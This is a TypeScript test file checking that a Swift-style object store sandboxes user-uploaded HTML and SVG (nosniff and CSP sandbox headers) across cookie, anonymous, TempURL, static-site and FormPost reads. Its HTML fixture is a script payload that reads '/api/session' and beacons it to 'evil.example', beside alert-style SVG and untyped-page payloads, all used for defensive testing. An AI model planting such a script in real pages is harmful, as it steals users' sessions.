/**
 * Objects as user content on the app's origin (http/swift/user-content.ts): an HTML page and
 * an SVG with script, read through /v1 with the web session cookie, anonymously from a
 * public container, by TempURL, as a static web site and after a FormPost, carry
 * `X-Content-Type-Options: nosniff` and `Content-Security-Policy: sandbox` (answers and
 * errors alike) and keep their bodies and types; the same reads with a token header get
 * neither header, as from Swift.
 */
import { expect } from 'chai'
import { createHmac } from 'node:crypto'
import { startTestAppliance, type TestAppliance } from '../harness/test-appliance.js'
import { WebClient } from '../harness/web-client.js'

const HTML = '<!doctype html><title>x</title><script>fetch("/api/session").then((r) => r.text()).then((t) => navigator.sendBeacon("http://evil.example/", t))</script>'
const SVG = '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(document.domain)</script><rect width="10" height="10"/></svg>'
/** An HTML page stored without a type, which a browser would sniff as HTML. */
const UNTYPED = '<html><body><script>alert(1)</script></body></html>'
const A = '/v1/AUTH_test'

function marked(r: Response): { nosniff: string | null; csp: string | null } {
  return { nosniff: r.headers.get('x-content-type-options'), csp: r.headers.get('content-security-policy') }
}
const PROTECTED = { nosniff: 'nosniff', csp: 'sandbox' }
const SWIFT_AS_IS = { nosniff: null, csp: null }

describe('objects served to browsers as sandboxed user content', function () {
  this.timeout(60_000)
  let v: TestAppliance
  let token: string
  let web: WebClient

  const withToken = (path: string, init: RequestInit = {}) => fetch(`${v.url}${path}`, { ...init, headers: { 'X-Auth-Token': token, ...init.headers }, redirect: 'manual' })
  const anonymous = (path: string, init: RequestInit = {}) => fetch(`${v.url}${path}`, { ...init, redirect: 'manual' })

  before(async () => {
    v = await startTestAppliance({ users: [{ account: 'test', user: 'tester', key: 'testing', admin: true }] })
    token = (await v.auth()).token
    web = new WebClient(v.url)
    await web.login()
    expect((await withToken(`${A}`, { method: 'POST', headers: { 'X-Account-Meta-Temp-URL-Key': 'KEY' } })).status).to.equal(204)
    expect((await withToken(`${A}/files`, { method: 'PUT' })).status).to.equal(201)
    expect((await withToken(`${A}/pub`, { method: 'PUT', headers: { 'X-Container-Read': '.r:*,.rlistings' } })).status).to.equal(201)
    expect((await withToken(`${A}/site`, { method: 'PUT', headers: { 'X-Container-Read': '.r:*,.rlistings', 'X-Container-Meta-Web-Index': 'index.html', 'X-Container-Meta-Web-Error': 'error.html', 'X-Container-Meta-Web-Listings': 'true' } })).status).to.equal(201)
    for (const c of ['files', 'pub']) {
      expect((await withToken(`${A}/${c}/page.html`, { method: 'PUT', body: HTML, headers: { 'Content-Type': 'text/html' } })).status).to.equal(201)
      expect((await withToken(`${A}/${c}/pic.svg`, { method: 'PUT', body: SVG, headers: { 'Content-Type': 'image/svg+xml' } })).status).to.equal(201)
      expect((await withToken(`${A}/${c}/blob`, { method: 'PUT', body: UNTYPED, headers: { 'Content-Type': 'application/octet-stream' } })).status).to.equal(201)
    }
    expect((await withToken(`${A}/site/index.html`, { method: 'PUT', body: HTML, headers: { 'Content-Type': 'text/html' } })).status).to.equal(201)
    expect((await withToken(`${A}/site/404error.html`, { method: 'PUT', body: HTML, headers: { 'Content-Type': 'text/html' } })).status).to.equal(201)
    expect((await withToken(`${A}/site/docs/a.txt`, { method: 'PUT', body: 'a', headers: { 'Content-Type': 'text/plain' } })).status).to.equal(201)
  })
  after(() => v?.stop())

  it('with the session cookie: GET and HEAD of HTML, SVG and an untyped page are sandboxed and not sniffed, bodies and types unchanged', async () => {
    for (const [name, body, type] of [['page.html', HTML, 'text/html'], ['pic.svg', SVG, 'image/svg+xml'], ['blob', UNTYPED, 'application/octet-stream']]) {
      const r = await web.fetch(`${A}/files/${name}`)
      expect(r.status, name).to.equal(200)
      expect(marked(r), name).to.deep.equal(PROTECTED)
      expect(r.headers.get('content-type'), name).to.equal(type)
      expect(await r.text(), name).to.equal(body)
      const head = await web.fetch(`${A}/files/${name}`, { method: 'HEAD' })
      expect(head.status, name).to.equal(200)
      expect(marked(head), name).to.deep.equal(PROTECTED)
    }
    const range = await web.fetch(`${A}/files/page.html`, { headers: { Range: 'bytes=0-14' } })
    expect(range.status).to.equal(206)
    expect(marked(range)).to.deep.equal(PROTECTED)
    expect(await range.text()).to.equal(HTML.slice(0, 15))
  })

  it('with the session cookie: listings and errors are marked too', async () => {
    const list = await web.fetch(`${A}/files?format=json`)
    expect(list.status).to.equal(200)
    expect(marked(list)).to.deep.equal(PROTECTED)
    const missing = await web.fetch(`${A}/files/missing.html`)
    expect(missing.status).to.equal(404)
    expect(marked(missing)).to.deep.equal(PROTECTED)
  })

  it('anonymously from a public (.r:*) container: GET and HEAD are sandboxed and not sniffed; a private object’s 401 too', async () => {
    for (const name of ['page.html', 'pic.svg', 'blob']) {
      for (const method of ['GET', 'HEAD']) {
        const r = await anonymous(`${A}/pub/${name}`, { method })
        expect(r.status, `${method} ${name}`).to.equal(200)
        expect(marked(r), `${method} ${name}`).to.deep.equal(PROTECTED)
      }
    }
    const denied = await anonymous(`${A}/files/page.html`)
    expect(denied.status).to.equal(401)
    expect(marked(denied)).to.deep.equal(PROTECTED)
  })

  it('with X-Auth-Token (or X-Storage-Token, or beside the cookie): Swift’s headers only, on objects, listings and errors', async () => {
    for (const c of ['files', 'pub']) {
      for (const name of ['page.html', 'pic.svg', 'blob']) {
        for (const method of ['GET', 'HEAD']) {
          const r = await withToken(`${A}/${c}/${name}`, { method })
          expect(r.status, `${method} ${c}/${name}`).to.equal(200)
          expect(marked(r), `${method} ${c}/${name}`).to.deep.equal(SWIFT_AS_IS)
        }
      }
    }
    expect(marked(await withToken(`${A}/files?format=json`))).to.deep.equal(SWIFT_AS_IS)
    expect(marked(await withToken(`${A}/files/missing.html`))).to.deep.equal(SWIFT_AS_IS)
    const storage = await anonymous(`${A}/files/page.html`, { headers: { 'X-Storage-Token': token } })
    expect(storage.status).to.equal(200)
    expect(marked(storage)).to.deep.equal(SWIFT_AS_IS)
    const both = await web.fetch(`${A}/files/page.html`, { headers: { 'X-Auth-Token': token } })
    expect(both.status).to.equal(200)
    expect(marked(both)).to.deep.equal(SWIFT_AS_IS)
  })

  it('by TempURL (a link opened in a browser): sandboxed and not sniffed, also with inline', async () => {
    const path = `${A}/files/page.html`
    const expires = Math.floor(Date.now() / 1000) + 60
    const sig = createHmac('sha256', 'KEY').update(`GET\n${expires}\n${path}`).digest('hex')
    const r = await anonymous(`${path}?temp_url_sig=${sig}&temp_url_expires=${expires}&inline`)
    expect(r.status).to.equal(200)
    expect(r.headers.get('content-disposition')).to.equal('inline')
    expect(marked(r)).to.deep.equal(PROTECTED)
    const bad = await anonymous(`${path}?temp_url_sig=${'0'.repeat(64)}&temp_url_expires=${expires}`)
    expect(bad.status).to.equal(401)
    expect(marked(bad)).to.deep.equal(PROTECTED)
  })

  it('a static web site: index, listing, error page and redirect are sandboxed; with a token and X-Web-Mode they are as Swift sends them', async () => {
    const redirect = await anonymous(`${A}/site`)
    expect(redirect.status).to.equal(301)
    expect(marked(redirect)).to.deep.equal(PROTECTED)
    const index = await anonymous(`${A}/site/`)
    expect(index.status).to.equal(200)
    expect(await index.text()).to.equal(HTML)
    expect(marked(index)).to.deep.equal(PROTECTED)
    const listing = await anonymous(`${A}/site/docs/`)
    expect(listing.status).to.equal(200)
    expect(listing.headers.get('content-type')).to.match(/^text\/html/)
    expect(marked(listing)).to.deep.equal(PROTECTED)
    const error = await anonymous(`${A}/site/nothing-here`)
    expect(error.status).to.equal(404)
    expect(await error.text()).to.equal(HTML)
    expect(marked(error)).to.deep.equal(PROTECTED)
    const viaToken = await withToken(`${A}/site/`, { headers: { 'X-Web-Mode': 'true' } })
    expect(viaToken.status).to.equal(200)
    expect(await viaToken.text()).to.equal(HTML)
    expect(marked(viaToken)).to.deep.equal(SWIFT_AS_IS)
  })

  it('a FormPost answer (a form submitted in a browser) is sandboxed', async () => {
    const path = `${A}/files`
    const expires = Math.floor(Date.now() / 1000) + 60
    const sig = createHmac('sha256', 'KEY').update(`${path}\n\n1000\n1\n${expires}`).digest('hex')
    const form = new FormData()
    for (const [k, val] of Object.entries({ redirect: '', max_file_size: '1000', max_file_count: '1', expires: String(expires), signature: sig })) form.append(k, val)
    form.append('file1', new Blob([HTML], { type: 'text/html' }), 'posted.html')
    const r = await anonymous(path, { method: 'POST', body: form })
    expect(r.status).to.equal(201)
    expect(marked(r)).to.deep.equal(PROTECTED)
    expect(marked(await web.fetch(`${A}/files/posted.html`))).to.deep.equal(PROTECTED)
  })
})
